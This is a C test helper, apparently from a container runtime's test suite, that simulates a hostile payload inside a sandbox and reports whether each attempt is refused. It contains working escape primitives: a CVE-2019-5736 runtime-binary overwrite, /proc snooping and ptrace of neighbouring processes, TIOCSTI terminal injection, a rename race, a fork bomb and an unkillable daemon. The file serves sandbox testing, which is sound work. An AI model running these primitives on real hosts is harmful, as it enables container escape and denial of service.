/* What a hostile payload does, in one static program that the tests put into an image: `attacker COMMAND ARGUMENT…`.
 *
 * Each attempt prints one line, "<attempt> <errno>" (0: it succeeded), so that a test can tell "refused" from "never tried". */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef PTRACE_SEIZE
#define PTRACE_SEIZE 0x4206
#endif
#define RENAME_EXCHANGE_ 2
#define SYS_pidfd_open_ 434
#define SYS_pidfd_getfd_ 438
#define TRIES 20000 /* of 500 µs: 10 s */

static int told(const char *attempt, long result)
{
	printf("%s %d\n", attempt, result < 0 ? errno : 0);
	fflush(stdout);
	return result < 0 ? -1 : 0;
}

static bool await_file(const char *path)
{
	for (int i = 0; i < TRIES; i++) {
		if (access(path, F_OK) == 0)
			return true;
		usleep(500);
	}
	return false;
}

/* swap A B: exchange two names for ever, so that a path that was checked is another one when it is used. */
static int swap(char **argv)
{
	for (told("swap", 0);;)
		if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE_) < 0)
			return told("swap", -1);
}

/* overwrite PIDFILE HELD GO: take hold of the executable of the process named in PIDFILE, make HELD, and write to the executable
 * once GO is there: the sequence of CVE-2019-5736. */
static int overwrite(char **argv)
{
	char pid[32] = "", path[64];
	int fd, held, writable;

	if (!await_file(argv[0]) || (fd = open(argv[0], O_RDONLY)) < 0 || read(fd, pid, sizeof(pid) - 1) <= 0)
		return told("target", -1);
	snprintf(path, sizeof(path), "/proc/%d/exe", atoi(pid));
	held = open(path, O_RDONLY);
	told("hold", held);
	writable = open(path, O_WRONLY);
	told("write-while-it-runs", writable);
	(void)!open(argv[1], O_CREAT | O_WRONLY, 0644);
	if (held < 0 || !await_file(argv[2]))
		return 1;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	for (int i = 0; i < TRIES; i++) {
		writable = open(path, O_RDWR);
		if (writable >= 0 || errno != ETXTBSY)
			break;
		usleep(500);
	}
	told("reopen", writable);
	told("write", write(writable, "#!/bin/evil\n", 12));
	told("grow", ftruncate(writable, 1 << 24));
	told("shrink", ftruncate(writable, 0));
	told("truncate", open(path, O_WRONLY | O_TRUNC));
	return 0;
}

struct spy {
	unsigned seen, exe, fd, root, cwd, mem, environ, trace, getfd;
};

static bool name_is(const char *pid, const char *payload)
{
	char path[PATH_MAX], name[64] = "";
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return true; /* gone */
	if (read(fd, name, sizeof(name) - 1) <= 0)
		name[0] = 0;
	close(fd);
	name[strcspn(name, "\n")] = 0;
	return *name == 0 || strcmp(name, payload) == 0;
}

/* Was it init, not yet the payload, that we got at?  Its executable has no name in the image. */
static bool still_init(const char *pid)
{
	char path[PATH_MAX], target[PATH_MAX] = "";
	ssize_t length;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	length = readlink(path, target, sizeof(target) - 1);
	if (length < 0)
		return errno == EACCES || errno == EPERM;
	return strncmp(target, "/bin/", 5) != 0;
}

static void try_open(const char *pid, const char *name, int flags, unsigned *ret_count)
{
	char path[PATH_MAX];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, name);
	fd = open(path, flags | O_CLOEXEC);
	if (fd >= 0 && still_init(pid))
		++*ret_count;
	if (fd >= 0)
		close(fd);
}

static void try_trace(const char *pid, struct spy *spy)
{
	int pidfd = (int)syscall(SYS_pidfd_open_, atoi(pid), 0), fd;

	if (pidfd >= 0) {
		for (int number = 3; number < 8; number++) {
			fd = (int)syscall(SYS_pidfd_getfd_, pidfd, number, 0);
			if (fd >= 0 && still_init(pid))
				spy->getfd++;
			if (fd >= 0)
				close(fd);
		}
		close(pidfd);
	}
	if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) == 0) {
		if (still_init(pid))
			spy->trace++;
		ptrace(PTRACE_INTERRUPT, atoi(pid), 0, 0);
		waitpid(atoi(pid), NULL, __WALL);
		ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
	}
}

static void spy_on(const char *pid, struct spy *spy)
{
	char path[64];

	spy->seen++;
	try_open(pid, "exe", O_RDONLY, &spy->exe);
	/* Only what the numbers lead to: their list is open to whoever is the host's root by id (proc(5)). */
	for (int number = 3; number < 8; number++) {
		snprintf(path, sizeof(path), "fd/%d", number);
		try_open(pid, path, O_PATH, &spy->fd);
	}
	try_open(pid, "root/.", O_PATH, &spy->root);
	try_open(pid, "cwd/.", O_PATH, &spy->cwd);
	try_open(pid, "mem", O_RDWR, &spy->mem);
	try_open(pid, "environ", O_RDONLY, &spy->environ);
	try_trace(pid, spy);
}

/* spy STOP PAYLOAD: until STOP is there, try to get at every process beside us that is not yet PAYLOAD (CVE-2016-9962). */
static int spy(char **argv)
{
	struct spy spy = { 0 };
	struct dirent *entry;

	told("spy", 0);
	for (int i = 0; access(argv[0], F_OK) != 0; i++) {
		DIR *proc = opendir("/proc");
		while ((entry = readdir(proc)) != NULL)
			if (isdigit(entry->d_name[0]) && atoi(entry->d_name) != getpid() &&
			    !name_is(entry->d_name, argv[1]))
				spy_on(entry->d_name, &spy);
		closedir(proc);
	}
	printf("seen %u\nexe %u\nfd %u\nroot %u\ncwd %u\nmem %u\nenviron %u\ntrace %u\ngetfd %u\n", spy.seen, spy.exe,
	       spy.fd, spy.root, spy.cwd, spy.mem, spy.environ, spy.trace, spy.getfd);
	return 0;
}

/* open PATH…: open each of them for reading and writing, or else for reading. */
static int open_each(char **argv)
{
	for (; *argv; argv++) {
		int fd = open(*argv, O_RDWR | O_NONBLOCK | O_NOCTTY);
		told(*argv, fd >= 0 ? fd : open(*argv, O_RDONLY | O_NONBLOCK | O_NOCTTY));
	}
	return 0;
}

/* terminal: what of the caller's terminal is ours, and can we type on it (CVE-2017-5226)? */
static int terminal(char **argv)
{
	char letter = '\n';

	(void)argv;
	printf("session %d\n", getsid(0) == getpid() ? 1 : 0);
	printf("isatty %d\n", isatty(0));
	told("tty", open("/dev/tty", O_RDWR | O_NOCTTY));
	told("type", ioctl(0, TIOCSTI, &letter));
	told("group", ioctl(0, TIOCSPGRP, &(pid_t){ getpid() }));
	return 0;
}

/* cwd: the working directory as the kernel knows it, and what is above it. */
static int cwd(char **argv)
{
	char path[PATH_MAX];
	struct stat above, root;

	(void)argv;
	if (syscall(SYS_getcwd, path, sizeof(path)) < 0)
		return told("cwd", -1);
	printf("cwd %s\n", path);
	for (int i = 0; i < 64 && chdir("..") == 0; i++)
		;
	if (stat(".", &above) < 0 || stat("/", &root) < 0)
		return told("above", -1);
	printf("escaped %d\n", above.st_ino != root.st_ino || above.st_dev != root.st_dev);
	return 0;
}

/* bomb: fork without end. */
static int bomb(char **argv)
{
	(void)argv;
	for (told("bomb", 0); fork() >= 0 || errno == EAGAIN;)
		;
	return told("bomb", -1);
}

/* deaf: ignore every signal that can be ignored, leave a daemon of the same kind in a session of its own, and stay. */
static int deaf(char **argv)
{
	(void)argv;
	for (int number = 1; number < 65; number++)
		(void)signal(number, SIG_IGN);
	if (fork() == 0) {
		setsid();
		if (fork() > 0)
			_exit(0);
	} else {
		told("deaf", 0);
	}
	for (;;)
		pause();
}

/* key NAME: look for a key of the user who started us. */
static int key(char **argv)
{
	told("key", syscall(SYS_request_key, "user", argv[0], NULL, 0));
	return 0;
}

/* status: what the kernel says of us, by this program itself: busybox gives up what a set-user-id bit gave it. */
static int status(char **argv)
{
	char text[4096];
	ssize_t size = read(open("/proc/self/status", O_RDONLY), text, sizeof(text));

	(void)argv;
	return size > 0 ? (int)fwrite(text, (size_t)size, 1, stdout) - 1 : 1;
}

static const struct {
	const char *name;
	int (*function)(char **argv);
} commands[] = {
	{ "swap", swap }, { "overwrite", overwrite }, { "spy", spy },   { "open", open_each }, { "terminal", terminal },
	{ "cwd", cwd },   { "bomb", bomb },           { "deaf", deaf }, { "key", key },        { "status", status },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(commands) / sizeof(commands[0]); i++)
		if (strcmp(argv[1], commands[i].name) == 0)
			return commands[i].function(argv + 2);
	return 2;
}
